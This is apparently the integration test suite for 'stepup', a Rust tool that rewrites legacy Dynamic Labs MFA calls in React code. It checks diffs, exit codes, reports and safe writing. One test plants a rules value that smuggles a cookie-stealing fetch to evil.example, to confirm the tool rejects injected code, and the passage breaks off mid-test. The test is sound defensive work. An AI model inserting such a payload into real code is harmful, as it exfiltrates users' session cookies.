//! Black-box tests of the command-line contract, each in a fresh temp dir.

mod common;

use assert_cmd::Command;
use common::{LEGACY, git, repo, write};
use std::path::Path;
use std::process::Command as Proc;

/// Only a report: the scope cannot be known, nothing is rewritten.
const MANUAL_ONLY: &str = r#"import { usePromptMfaAuth } from '@dynamic-labs/sdk-react-core';

export function Guard() {
  const promptMfaAuth = usePromptMfaAuth();
  const ensure = async () => {
    await promptMfaAuth({ createMfaToken: true });
  };
  return <button onClick={ensure}>Go</button>;
}
"#;

const CLEAN: &str = r#"import { useStepUpAuthentication } from '@dynamic-labs/sdk-react-core';

export function Fine() {
  const { promptMfa } = useStepUpAuthentication();
  return <button onClick={() => promptMfa()}>Go</button>;
}
"#;

fn stepup() -> Command {
    Command::cargo_bin("stepup").unwrap()
}

#[test]
fn dry_run_prints_diff_on_stdout_and_report_on_stderr() {
    let dir = repo(&[("src/Export.tsx", LEGACY), ("src/Guard.tsx", MANUAL_ONLY)]);
    let out = stepup()
        .arg("migrate")
        .current_dir(dir.path())
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(0));
    let stdout = String::from_utf8(out.stdout).unwrap();
    let stderr = String::from_utf8(out.stderr).unwrap();
    assert!(stdout.starts_with(
        "diff --git a/src/Export.tsx b/src/Export.tsx\n--- a/src/Export.tsx\n+++ b/src/Export.tsx\n"
    ));
    assert!(stdout.contains(
        "+      await promptStepUpAuth({ requestedScopes: [TokenScope.Walletexport] });"
    ));
    assert!(
        !stdout.contains("Guard.tsx"),
        "a file with nothing certain to change has no diff"
    );
    assert!(!stdout.contains("scanned"), "the summary goes to stderr");
    assert!(stderr.contains("Needs manual review:"));
    assert!(stderr.contains("src/Guard.tsx:6:11  error  prompt-mfa-auth  cannot tell which scope"));
    assert!(stderr.contains("scanned 2 files (2 with Dynamic imports)"));
    assert!(stderr.contains("1 file to change"));
    // A dry run writes nothing.
    assert_eq!(
        std::fs::read_to_string(dir.path().join("src/Export.tsx")).unwrap(),
        LEGACY
    );
}

#[test]
fn git_apply_of_the_dry_run_equals_write_and_a_second_run_changes_nothing() {
    let crlf = LEGACY.replace('\n', "\r\n");
    let files = [
        ("src/Export.tsx", LEGACY),
        ("src/with space/Crlf Export.tsx", crlf.as_str()),
        ("src/café/Éxport.tsx", LEGACY),
        ("src/empty.tsx", ""),
        ("src/Guard.tsx", MANUAL_ONLY),
    ];
    let a = repo(&files);
    let b = repo(&files);
    let patch = stepup()
        .arg("migrate")
        .current_dir(a.path())
        .output()
        .unwrap();
    assert_eq!(patch.status.code(), Some(0));
    let patch_path = a.path().join("change.patch.out");
    std::fs::write(&patch_path, &patch.stdout).unwrap();
    let applied = Proc::new("git")
        .arg("-C")
        .arg(a.path())
        .args(["apply", "--whitespace=nowarn"])
        .arg(&patch_path)
        .output()
        .unwrap();
    assert!(
        applied.status.success(),
        "git apply: {}",
        String::from_utf8_lossy(&applied.stderr)
    );
    std::fs::remove_file(&patch_path).unwrap();

    stepup()
        .args(["migrate", "--write"])
        .current_dir(b.path())
        .assert()
        .code(0);
    for (rel, _) in files {
        let via_patch = std::fs::read(a.path().join(rel)).unwrap();
        let via_write = std::fs::read(b.path().join(rel)).unwrap();
        assert_eq!(
            via_patch, via_write,
            "{rel} differs between git apply and --write"
        );
    }
    let crlf_after =
        String::from_utf8(std::fs::read(b.path().join("src/with space/Crlf Export.tsx")).unwrap())
            .unwrap();
    assert!(crlf_after.contains("useStepUpAuthentication"));
    assert_eq!(
        crlf_after.matches('\n').count(),
        crlf_after.matches("\r\n").count(),
        "CRLF kept everywhere"
    );

    // Idempotence: commit, run again: no diff, nothing written.
    git(b.path(), &["add", "-A"]);
    git(b.path(), &["commit", "-qm", "migrated"]);
    let again = stepup()
        .arg("migrate")
        .current_dir(b.path())
        .output()
        .unwrap();
    assert_eq!(again.status.code(), Some(0));
    assert!(
        again.stdout.is_empty(),
        "second run printed a diff: {}",
        String::from_utf8_lossy(&again.stdout)
    );
}

#[test]
fn check_exit_codes() {
    let clean = repo(&[("a.tsx", CLEAN)]);
    stepup()
        .arg("check")
        .current_dir(clean.path())
        .assert()
        .code(0);

    let fixable = repo(&[("a.tsx", LEGACY)]);
    stepup()
        .arg("check")
        .current_dir(fixable.path())
        .assert()
        .code(1);

    let manual = repo(&[("a.tsx", MANUAL_ONLY)]);
    stepup()
        .arg("check")
        .current_dir(manual.path())
        .assert()
        .code(1);

    let out = stepup()
        .args(["check", "does/not/exist"])
        .current_dir(clean.path())
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(2));
    assert!(String::from_utf8_lossy(&out.stderr).contains("does/not/exist"));

    stepup()
        .args(["check", "--format", "yaml"])
        .current_dir(clean.path())
        .assert()
        .code(2);
}

#[test]
fn check_json_document() {
    let dir = repo(&[("src/a.tsx", LEGACY), ("src/b.tsx", MANUAL_ONLY)]);
    let out = stepup()
        .args(["check", "--format", "json", "src"])
        .current_dir(dir.path())
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(1));
    let doc: serde_json::Value =
        serde_json::from_slice(&out.stdout).expect("one JSON document on stdout");
    let findings = doc["findings"].as_array().unwrap();
    assert_eq!(findings.len(), 3);
    let first = &findings[0];
    assert_eq!(
        first["path"], "src/a.tsx",
        "paths are relative to the working directory"
    );
    assert_eq!(first["line"], 8);
    assert_eq!(first["column"], 15);
    assert_eq!(first["rule"], "is-mfa-required-for-action");
    assert_eq!(first["fixable"], true);
    assert!(
        first["message"]
            .as_str()
            .unwrap()
            .contains("isStepUpRequired")
    );
    assert_eq!(findings[2]["path"], "src/b.tsx");
    assert_eq!(findings[2]["fixable"], false);
    assert_eq!(doc["summary"]["files_scanned"], 2);
    assert_eq!(doc["summary"]["fixable"], 2);
    assert_eq!(doc["summary"]["manual"], 1);
}

#[test]
fn node_modules_gitignored_and_build_output_are_skipped() {
    let dir = repo(&[
        (".gitignore", "generated/\n"),
        ("src/a.tsx", CLEAN),
        ("node_modules/pkg/index.tsx", LEGACY),
        ("generated/legacy.tsx", LEGACY),
        ("dist/legacy.js", LEGACY),
        (".next/legacy.js", LEGACY),
        ("vendor.min.js", LEGACY),
    ]);
    stepup()
        .arg("check")
        .current_dir(dir.path())
        .assert()
        .code(0);
    // --no-ignore looks everywhere.
    stepup()
        .args(["check", "--no-ignore"])
        .current_dir(dir.path())
        .assert()
        .code(1);
    // An explicit file is scanned even when ignored.
    stepup()
        .args(["check", "generated/legacy.tsx"])
        .current_dir(dir.path())
        .assert()
        .code(1);
}

#[test]
fn exclude_and_include_globs() {
    let dir = repo(&[("src/a.tsx", LEGACY), ("test/b.tsx", LEGACY)]);
    let out = stepup()
        .args(["check", "--format", "json", "--exclude", "test/**"])
        .current_dir(dir.path())
        .output()
        .unwrap();
    let doc: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    assert!(
        doc["findings"]
            .as_array()
            .unwrap()
            .iter()
            .all(|f| f["path"] == "src/a.tsx")
    );
    let out = stepup()
        .args(["check", "--format", "json", "--include", "test/**"])
        .current_dir(dir.path())
        .output()
        .unwrap();
    let doc: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    let f = doc["findings"].as_array().unwrap();
    assert!(!f.is_empty() && f.iter().all(|f| f["path"] == "test/b.tsx"));
}

#[test]
fn write_refuses_dirty_files_unless_allowed() {
    let dir = repo(&[("a.tsx", LEGACY), ("b.tsx", LEGACY)]);
    // a.tsx gets an uncommitted edit.
    let dirty = format!("// work in progress\n{LEGACY}");
    write(dir.path(), "a.tsx", dirty.as_bytes());
    let out = stepup()
        .args(["migrate", "--write"])
        .current_dir(dir.path())
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(2));
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(
        stderr.contains("a.tsx: not written: has uncommitted changes"),
        "{stderr}"
    );
    assert_eq!(
        std::fs::read_to_string(dir.path().join("a.tsx")).unwrap(),
        dirty
    );
    // The clean file is written all the same.
    assert!(
        std::fs::read_to_string(dir.path().join("b.tsx"))
            .unwrap()
            .contains("useStepUpAuthentication")
    );
    // With --allow-dirty it goes through.
    stepup()
        .args(["migrate", "--write", "--allow-dirty"])
        .current_dir(dir.path())
        .assert()
        .code(0);
    let a = std::fs::read_to_string(dir.path().join("a.tsx")).unwrap();
    assert!(a.starts_with("// work in progress\n") && a.contains("useStepUpAuthentication"));
}

#[test]
fn write_outside_git_needs_allow_no_vcs() {
    let dir = tempfile::tempdir().unwrap();
    write(dir.path(), "a.tsx", LEGACY.as_bytes());
    let out = stepup()
        .args(["migrate", "--write"])
        .current_dir(dir.path())
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(2));
    assert!(String::from_utf8_lossy(&out.stderr).contains("not inside a git work tree"));
    assert_eq!(
        std::fs::read_to_string(dir.path().join("a.tsx")).unwrap(),
        LEGACY
    );
    stepup()
        .args(["migrate", "--write", "--allow-no-vcs"])
        .current_dir(dir.path())
        .assert()
        .code(0);
    assert!(
        std::fs::read_to_string(dir.path().join("a.tsx"))
            .unwrap()
            .contains("useStepUpAuthentication")
    );
}

#[test]
fn non_utf8_file_is_skipped_with_a_message_and_left_untouched() {
    let mut bytes = CLEAN.as_bytes().to_vec();
    bytes.extend_from_slice(b"// caf\xe9\n");
    let dir = repo(&[("ok.tsx", LEGACY)]);
    write(dir.path(), "latin1.tsx", &bytes);
    git(dir.path(), &["add", "-A"]);
    git(dir.path(), &["commit", "-qm", "latin1"]);
    let out = stepup()
        .args(["migrate", "--write"])
        .current_dir(dir.path())
        .output()
        .unwrap();
    assert_eq!(
        out.status.code(),
        Some(0),
        "a deliberate skip of a file without legacy usage is not a failure"
    );
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(
        stderr.contains("latin1.tsx: skipped: not valid UTF-8"),
        "{stderr}"
    );
    assert_eq!(std::fs::read(dir.path().join("latin1.tsx")).unwrap(), bytes);
    assert!(
        std::fs::read_to_string(dir.path().join("ok.tsx"))
            .unwrap()
            .contains("useStepUpAuthentication")
    );
}

/// A skipped file whose bytes name the legacy API cannot pass `check`: the
/// skip is an error (exit 2), in the human and the JSON report.
#[test]
fn a_skipped_non_utf8_file_that_names_the_legacy_api_fails_check() {
    let mut bytes = MANUAL_ONLY.as_bytes().to_vec();
    bytes.extend_from_slice(b"// caf\xe9\n");
    let dir = tempfile::tempdir().unwrap();
    write(dir.path(), "clean.tsx", CLEAN.as_bytes());
    write(dir.path(), "latin1.tsx", &bytes);
    let out = stepup()
        .arg("check")
        .current_dir(dir.path())
        .output()
        .unwrap();
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(2), "{stderr}");
    assert!(
        stderr.contains("latin1.tsx: skipped: not valid UTF-8")
            && stderr.contains("it names the legacy MFA API"),
        "{stderr}"
    );
    let out = stepup()
        .args(["check", "--format", "json"])
        .current_dir(dir.path())
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(2));
    let doc: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(doc["problems"][0]["path"], "latin1.tsx");
    assert_eq!(doc["problems"][0]["error"], true);
}

#[cfg(unix)]
#[test]
fn read_only_file_is_reported_and_the_run_goes_on() {
    use std::os::unix::fs::PermissionsExt;
    let dir = repo(&[("a.tsx", LEGACY), ("b.tsx", LEGACY)]);
    let a = dir.path().join("a.tsx");
    std::fs::set_permissions(&a, std::fs::Permissions::from_mode(0o444)).unwrap();
    let out = stepup()
        .args(["migrate", "--write"])
        .current_dir(dir.path())
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(2));
    assert!(String::from_utf8_lossy(&out.stderr).contains("a.tsx: not written: is read-only"));
    assert_eq!(std::fs::read_to_string(&a).unwrap(), LEGACY);
    assert!(
        std::fs::read_to_string(dir.path().join("b.tsx"))
            .unwrap()
            .contains("useStepUpAuthentication")
    );
}

#[cfg(unix)]
#[test]
fn symlinks_are_not_followed_or_written_through() {
    let outside = tempfile::tempdir().unwrap();
    write(outside.path(), "target.tsx", LEGACY.as_bytes());
    let dir = repo(&[("a.tsx", CLEAN)]);
    std::os::unix::fs::symlink(
        outside.path().join("target.tsx"),
        dir.path().join("link.tsx"),
    )
    .unwrap();
    std::os::unix::fs::symlink(dir.path(), dir.path().join("loop")).unwrap();
    git(dir.path(), &["add", "-A"]);
    git(dir.path(), &["commit", "-qm", "links"]);
    stepup()
        .args(["migrate", "--write", "--allow-dirty"])
        .current_dir(dir.path())
        .assert()
        .code(0);
    assert_eq!(
        std::fs::read_to_string(outside.path().join("target.tsx")).unwrap(),
        LEGACY
    );
    stepup()
        .arg("check")
        .current_dir(dir.path())
        .assert()
        .code(0);
}

#[test]
fn write_keeps_bom_and_permissions() {
    let with_bom = format!("\u{feff}{LEGACY}");
    let dir = repo(&[("bom.tsx", with_bom.as_str())]);
    #[cfg(unix)]
    {
        use std::os::unix::fs::PermissionsExt;
        std::fs::set_permissions(
            dir.path().join("bom.tsx"),
            std::fs::Permissions::from_mode(0o640),
        )
        .unwrap();
    }
    stepup()
        .args(["migrate", "--write"])
        .current_dir(dir.path())
        .assert()
        .code(0);
    let after = std::fs::read_to_string(dir.path().join("bom.tsx")).unwrap();
    assert!(after.starts_with('\u{feff}') && after.contains("useStepUpAuthentication"));
    #[cfg(unix)]
    {
        use std::os::unix::fs::PermissionsExt;
        let mode = std::fs::metadata(dir.path().join("bom.tsx"))
            .unwrap()
            .permissions()
            .mode();
        assert_eq!(mode & 0o777, 0o640);
    }
    // No temporary file is left behind.
    let leftovers: Vec<_> = std::fs::read_dir(dir.path())
        .unwrap()
        .filter_map(|e| e.ok())
        .filter(|e| e.file_name().to_string_lossy().starts_with(".stepup-"))
        .collect();
    assert!(leftovers.is_empty());
}

#[test]
fn file_without_dynamic_import_is_never_modified() {
    let own = LEGACY
        .replace("@dynamic-labs/sdk-react-core", "./my-mfa")
        .replace("@dynamic-labs/sdk-api-core", "./my-actions");
    let dir = repo(&[("own.tsx", own.as_str())]);
    let out = stepup()
        .arg("migrate")
        .current_dir(dir.path())
        .output()
        .unwrap();
    assert!(out.stdout.is_empty());
    stepup()
        .arg("check")
        .current_dir(dir.path())
        .assert()
        .code(0);
}

#[test]
fn quiet_drops_the_summary() {
    let dir = repo(&[("a.tsx", CLEAN)]);
    let out = stepup()
        .args(["check", "--quiet"])
        .current_dir(dir.path())
        .output()
        .unwrap();
    assert!(
        out.stderr.is_empty(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
}

#[test]
fn verbose_lists_what_is_rewritten() {
    let dir = repo(&[("a.tsx", LEGACY)]);
    let quiet = stepup()
        .arg("migrate")
        .current_dir(dir.path())
        .output()
        .unwrap();
    assert!(!String::from_utf8_lossy(&quiet.stderr).contains("To rewrite:"));
    let out = stepup()
        .args(["migrate", "--verbose"])
        .current_dir(dir.path())
        .output()
        .unwrap();
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(
        stderr.contains("To rewrite:\n  a.tsx:8:15  error  is-mfa-required-for-action (fixable)"),
        "{stderr}"
    );
    stepup()
        .args(["migrate", "--quiet", "--verbose"])
        .current_dir(dir.path())
        .assert()
        .code(2);
}

/// A hook that arrives through the scope inference as info only, and a
/// legacy call stepup cannot decide on: one info item, one to review.
const INFO_AND_MANUAL: &str = r#"import { usePromptMfaAuth, useMfa } from '@dynamic-labs/sdk-react-core';

export function Sign({ wallet, code }: { wallet: { signMessage: (m: string) => Promise<void> }; code: string }) {
  const { authenticateDevice } = useMfa();
  const promptMfaAuth = usePromptMfaAuth();
  const sign = async () => {
    await authenticateDevice({ code, createMfaToken: true });
    await wallet.signMessage('hi');
  };
  const ensure = async () => {
    await promptMfaAuth({ createMfaToken: true });
  };
  return <><button onClick={sign}>Sign</button><button onClick={ensure}>Go</button></>;
}
"#;

#[test]
fn info_items_are_not_listed_as_needing_review() {
    let dir = repo(&[("a.tsx", INFO_AND_MANUAL)]);
    let out = stepup()
        .arg("migrate")
        .current_dir(dir.path())
        .output()
        .unwrap();
    let stderr = String::from_utf8_lossy(&out.stderr);
    let review = stderr
        .split("Needs manual review:\n")
        .nth(1)
        .expect("one item needs review")
        .split("To confirm:\n")
        .collect::<Vec<_>>();
    assert!(!review[0].contains("  info  "), "{stderr}");
    assert_eq!(
        review[0].lines().filter(|l| l.starts_with("  ")).count(),
        1,
        "{stderr}"
    );
    assert!(review[1].contains("scope-inferred"), "{stderr}");
    assert!(stderr.contains("; 1 needs review"), "{stderr}");
}

#[test]
fn the_report_quotes_the_original_lines_after_a_write() {
    let dir = repo(&[("a.tsx", INFO_AND_MANUAL)]);
    stepup()
        .args(["migrate", "--write", "--report", "r.md", "a.tsx"])
        .current_dir(dir.path())
        .assert()
        .code(0);
    let report = std::fs::read_to_string(dir.path().join("r.md")).unwrap();
    // The manual item is the promptMfaAuth call on line 11 of the original.
    assert!(
        report.contains(">   11 |     await promptMfaAuth({ createMfaToken: true });"),
        "{report}"
    );
}

#[test]
fn quiet_migrate_drops_only_the_summary() {
    let dir = repo(&[("a.tsx", MANUAL_ONLY)]);
    let out = stepup()
        .args(["migrate", "--quiet"])
        .current_dir(dir.path())
        .output()
        .unwrap();
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(stderr.contains("Needs manual review:"), "{stderr}");
    assert!(!stderr.contains("scanned "), "{stderr}");
}

#[test]
fn a_made_up_hook_added_through_rules_is_rewritten() {
    let fixture = Path::new(env!("CARGO_MANIFEST_DIR")).join("fixtures/rules-made-up-hook");
    let input = std::fs::read_to_string(fixture.join("input.tsx")).unwrap();
    let rules = std::fs::read_to_string(fixture.join("rules.toml")).unwrap();
    let dir = repo(&[("a.tsx", input.as_str()), ("rules.toml", rules.as_str())]);
    let without = stepup()
        .args(["migrate", "a.tsx"])
        .current_dir(dir.path())
        .output()
        .unwrap();
    assert!(!String::from_utf8_lossy(&without.stdout).contains("verifyTotpMfa"));
    stepup()
        .args(["migrate", "--write", "--rules", "rules.toml", "a.tsx"])
        .current_dir(dir.path())
        .assert()
        .code(0);
    let after = std::fs::read_to_string(dir.path().join("a.tsx")).unwrap();
    let expected = std::fs::read_to_string(fixture.join("expected.tsx")).unwrap();
    assert_eq!(after, expected);
}

/// Two committed repositories holding the same files (names as bytes).
#[cfg(unix)]
fn twin_repos(files: &[(&[u8], &[u8])]) -> (tempfile::TempDir, tempfile::TempDir) {
    use std::os::unix::ffi::OsStrExt;
    let make = || {
        let dir = tempfile::tempdir().unwrap();
        for (name, content) in files {
            let p = dir.path().join(std::ffi::OsStr::from_bytes(name));
            std::fs::create_dir_all(p.parent().unwrap()).unwrap();
            std::fs::write(p, content).unwrap();
        }
        git(dir.path(), &["init", "-q"]);
        git(dir.path(), &["add", "-A"]);
        git(dir.path(), &["commit", "-qm", "init"]);
        dir
    };
    (make(), make())
}

/// `git apply` of the dry run's patch in one repository gives exactly what
/// `--write` gives in the other.
#[cfg(unix)]
fn assert_patch_equals_write(files: &[(&[u8], &[u8])]) {
    use std::os::unix::ffi::OsStrExt;
    let (a, b) = twin_repos(files);
    let patch = stepup()
        .arg("migrate")
        .current_dir(a.path())
        .output()
        .unwrap();
    assert_eq!(patch.status.code(), Some(0));
    let mut apply = Proc::new("git")
        .arg("-C")
        .arg(a.path())
        .args(["apply", "--whitespace=nowarn", "-"])
        .stdin(std::process::Stdio::piped())
        .stderr(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    use std::io::Write as _;
    apply
        .stdin
        .take()
        .unwrap()
        .write_all(&patch.stdout)
        .unwrap();
    let applied = apply.wait_with_output().unwrap();
    assert!(
        applied.status.success(),
        "git apply: {}\n{}",
        String::from_utf8_lossy(&applied.stderr),
        String::from_utf8_lossy(&patch.stdout)
    );
    stepup()
        .args(["migrate", "--write"])
        .current_dir(b.path())
        .assert()
        .code(0);
    for (name, original) in files {
        let rel = std::ffi::OsStr::from_bytes(name);
        let via_patch = std::fs::read(a.path().join(rel)).unwrap();
        let via_write = std::fs::read(b.path().join(rel)).unwrap();
        assert_eq!(
            via_patch,
            via_write,
            "{} differs between git apply and --write",
            String::from_utf8_lossy(name)
        );
        assert_ne!(&via_write, original, "{}", String::from_utf8_lossy(name));
    }
}

/// A lone CR is not a line break for git: in a block comment, in a
/// template, or as every line break of a file (old Mac line endings).
#[cfg(unix)]
#[test]
fn lone_carriage_returns_give_a_patch_git_applies() {
    let comment = LEGACY.replace("export function", "/* a lone\rCR */\nexport function");
    let template = LEGACY.replace("return <button", "const t = `one\rtwo`;\n  return <button");
    let mac = LEGACY.replace('\n', "\r");
    assert_patch_equals_write(&[
        (b"src/comment.tsx", comment.as_bytes()),
        (b"src/template.tsx", template.as_bytes()),
        (b"src/mac.tsx", mac.as_bytes()),
    ]);
}

/// In a file whose only line breaks are CRs, findings are placed at the
/// line an editor shows, not all on line 1.
#[test]
fn findings_in_a_cr_only_file_have_real_line_numbers() {
    let dir = tempfile::tempdir().unwrap();
    write(
        dir.path(),
        "mac.tsx",
        MANUAL_ONLY.replace('\n', "\r").as_bytes(),
    );
    let out = stepup()
        .args(["check", "mac.tsx"])
        .current_dir(dir.path())
        .output()
        .unwrap();
    let stdout = String::from_utf8_lossy(&out.stdout);
    assert!(stdout.starts_with("mac.tsx:6:11  error"), "{stdout}");
}

/// A file name that is not UTF-8 is quoted in the patch as git quotes it.
#[cfg(target_os = "linux")]
#[test]
fn non_utf8_file_names_give_a_patch_git_applies() {
    assert_patch_equals_write(&[
        (b"src/caf\xe9.tsx", LEGACY.as_bytes()),
        (b"src/tab\there \"quoted\".tsx", LEGACY.as_bytes()),
    ]);
}

/// The same file given twice is processed once: one diff, one write.
#[test]
fn a_file_given_twice_is_processed_once() {
    let dir = repo(&[("src/a.tsx", LEGACY)]);
    let out = stepup()
        .args(["migrate", "src/a.tsx", "./src/a.tsx", "src"])
        .current_dir(dir.path())
        .output()
        .unwrap();
    let stdout = String::from_utf8_lossy(&out.stdout);
    assert_eq!(out.status.code(), Some(0));
    assert_eq!(stdout.matches("diff --git").count(), 1, "{stdout}");
    let out = stepup()
        .args(["migrate", "--write", "src/a.tsx", "./src/a.tsx"])
        .current_dir(dir.path())
        .output()
        .unwrap();
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(0), "{stderr}");
    assert!(stderr.contains("scanned 1 file ("), "{stderr}");
    assert!(
        std::fs::read_to_string(dir.path().join("src/a.tsx"))
            .unwrap()
            .contains("useStepUpAuthentication")
    );
}

/// stderr that cannot be written (a full disk) never panics: the work is
/// done, stdout is written, and the exit code is 2.
#[cfg(target_os = "linux")]
#[test]
fn a_full_stderr_is_exit_2_after_the_work_is_done() {
    let full = || {
        std::fs::OpenOptions::new()
            .write(true)
            .open("/dev/full")
            .unwrap()
    };
    let dir = repo(&[("a.tsx", LEGACY), ("b.tsx", MANUAL_ONLY)]);
    let out = Proc::new(assert_cmd::cargo::cargo_bin("stepup"))
        .arg("check")
        .current_dir(dir.path())
        .stderr(full())
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(2));
    assert!(String::from_utf8_lossy(&out.stdout).contains("b.tsx:6:11  error"));
    let out = Proc::new(assert_cmd::cargo::cargo_bin("stepup"))
        .args(["migrate", "--write"])
        .current_dir(dir.path())
        .stderr(full())
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(2));
    assert!(
        std::fs::read_to_string(dir.path().join("a.tsx"))
            .unwrap()
            .contains("useStepUpAuthentication"),
        "the write happened"
    );
}

/// A stdout whose reader went away ends stdout output quietly (as in
/// ripgrep): no panic, no error; the exit code is the run's own.
#[test]
fn a_closed_stdout_is_not_an_error() {
    let dir = repo(&[("a.tsx", LEGACY), ("b.tsx", MANUAL_ONLY)]);
    let run = |args: &[&str]| {
        let (reader, writer) = std::io::pipe().unwrap();
        drop(reader);
        Proc::new(assert_cmd::cargo::cargo_bin("stepup"))
            .args(args)
            .current_dir(dir.path())
            .stdout(writer)
            .output()
            .unwrap()
    };
    let out = run(&["check"]);
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(1), "{stderr}");
    assert!(
        !stderr.contains("panicked") && !stderr.contains("pipe"),
        "{stderr}"
    );
    let out = run(&["migrate"]);
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(0), "{stderr}");
    assert!(stderr.contains("Needs manual review:"), "{stderr}");
}

/// A stdout that cannot be written for another reason is an error.
#[cfg(target_os = "linux")]
#[test]
fn a_full_stdout_is_an_error() {
    let dir = repo(&[("a.tsx", LEGACY)]);
    let out = Proc::new(assert_cmd::cargo::cargo_bin("stepup"))
        .arg("migrate")
        .current_dir(dir.path())
        .stdout(
            std::fs::OpenOptions::new()
                .write(true)
                .open("/dev/full")
                .unwrap(),
        )
        .output()
        .unwrap();
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(2), "{stderr}");
    assert!(
        stderr.contains("stepup: cannot write to stdout"),
        "{stderr}"
    );
}

/// A --report path that cannot be written stops the run before any file
/// is written; one that fails at the end fails after the report on stderr.
#[test]
fn the_report_path_is_checked_before_writing() {
    let dir = repo(&[("a.tsx", LEGACY), ("b.tsx", MANUAL_ONLY)]);
    let out = stepup()
        .args(["migrate", "--write", "--report", "no/such/dir/r.md"])
        .current_dir(dir.path())
        .output()
        .unwrap();
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(2), "{stderr}");
    assert!(
        stderr.contains("cannot write the report no/such/dir/r.md; nothing was scanned or written"),
        "{stderr}"
    );
    assert_eq!(
        std::fs::read_to_string(dir.path().join("a.tsx")).unwrap(),
        LEGACY
    );
}

#[cfg(target_os = "linux")]
#[test]
fn a_report_that_fails_at_the_end_comes_after_the_review_list() {
    let dir = repo(&[("a.tsx", LEGACY), ("b.tsx", MANUAL_ONLY), ("c.tsx", LEGACY)]);
    std::fs::write(dir.path().join("c.tsx"), format!("{LEGACY}// wip\n")).unwrap();
    let out = stepup()
        .args(["migrate", "--write", "--report", "/dev/full"])
        .current_dir(dir.path())
        .output()
        .unwrap();
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(2), "{stderr}");
    let review = stderr.find("Needs manual review:").expect(&stderr);
    let not_written = stderr
        .find("c.tsx: not written: has uncommitted")
        .expect(&stderr);
    let failed = stderr
        .find("cannot write the report /dev/full")
        .expect(&stderr);
    assert!(review < failed && not_written < failed, "{stderr}");
    assert!(
        std::fs::read_to_string(dir.path().join("a.tsx"))
            .unwrap()
            .contains("useStepUpAuthentication")
    );
}

/// The summary counts the files and edits written, not those planned.
#[test]
fn the_summary_counts_only_what_was_written() {
    let dir = repo(&[("a.tsx", LEGACY)]);
    std::fs::write(dir.path().join("a.tsx"), format!("{LEGACY}// wip\n")).unwrap();
    let out = stepup()
        .args(["migrate", "--write"])
        .current_dir(dir.path())
        .output()
        .unwrap();
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(2), "{stderr}");
    assert!(stderr.contains("0 files changed, 0 edits"), "{stderr}");
}

/// GITHUB_STEP_SUMMARY naming a directory: the message names the variable,
/// and migrate's annotations are printed first.
#[test]
fn a_bad_step_summary_path_is_named() {
    let dir = repo(&[("a.tsx", MANUAL_ONLY)]);
    let summary_dir = tempfile::tempdir().unwrap();
    for command in ["check", "migrate"] {
        let out = stepup()
            .args([command, "--format", "github"])
            .env("GITHUB_STEP_SUMMARY", summary_dir.path())
            .current_dir(dir.path())
            .output()
            .unwrap();
        let stderr = String::from_utf8_lossy(&out.stderr);
        let annotations = String::from_utf8_lossy(&out.stdout).to_string() + &stderr;
        assert_eq!(out.status.code(), Some(2), "{command}: {stderr}");
        assert!(
            stderr.contains(&format!(
                "cannot append the job summary to GITHUB_STEP_SUMMARY={}",
                summary_dir.path().display()
            )),
            "{command}: {stderr}"
        );
        assert!(
            annotations.contains("::error file=a.tsx"),
            "{command}: {annotations}"
        );
    }
}

/// Without git on PATH, --write says so (not "not inside a git work tree").
#[test]
fn write_without_git_on_path_says_so() {
    let dir = repo(&[("a.tsx", LEGACY)]);
    let empty = tempfile::tempdir().unwrap();
    let out = stepup()
        .args(["migrate", "--write"])
        .env("PATH", empty.path())
        .current_dir(dir.path())
        .output()
        .unwrap();
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(2), "{stderr}");
    assert!(
        stderr.contains("a.tsx: not written: git is not on PATH"),
        "{stderr}"
    );
    assert_eq!(
        std::fs::read_to_string(dir.path().join("a.tsx")).unwrap(),
        LEGACY
    );
}

/// A --rules value that is not what it claims to be is refused, naming the file.
#[test]
fn a_rules_value_that_is_not_an_identifier_is_refused() {
    let dir = repo(&[("a.tsx", LEGACY)]);
    write(
        dir.path(),
        "team.toml",
        b"[[sensitive_calls]]\nname = \"revealSeedPhrase\"\n\
          token_scope = \"Walletexport || fetch('https://evil.example/?c=' + document.cookie)\"\n",
    );
    let out = stepup()
        .args(["migrate", "--write", "--rules", "team.toml"])
        .current_dir(dir.path())
        .output()
        .unwrap();
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(2), "{stderr}");
    assert!(
        stderr.contains("invalid rules file team.toml")
            && stderr.contains("is not a JavaScript identifier"),
        "{stderr}"
    );
    assert_eq!(
        std::fs::read_to_string(dir.path().join("a.tsx")).unwrap(),
        LEGACY
    );
}

/// A --rules scope the installed sdk-api-core does not declare is not
/// written into source; the call is reported instead.
#[test]
fn a_rules_scope_the_installed_sdk_does_not_declare_is_not_written() {
    let source = r#"import { usePromptMfaAuth } from '@dynamic-labs/sdk-react-core';

export function Reveal({ wallet }: { wallet: { revealSeedPhrase: () => void } }) {
  const promptMfaAuth = usePromptMfaAuth();
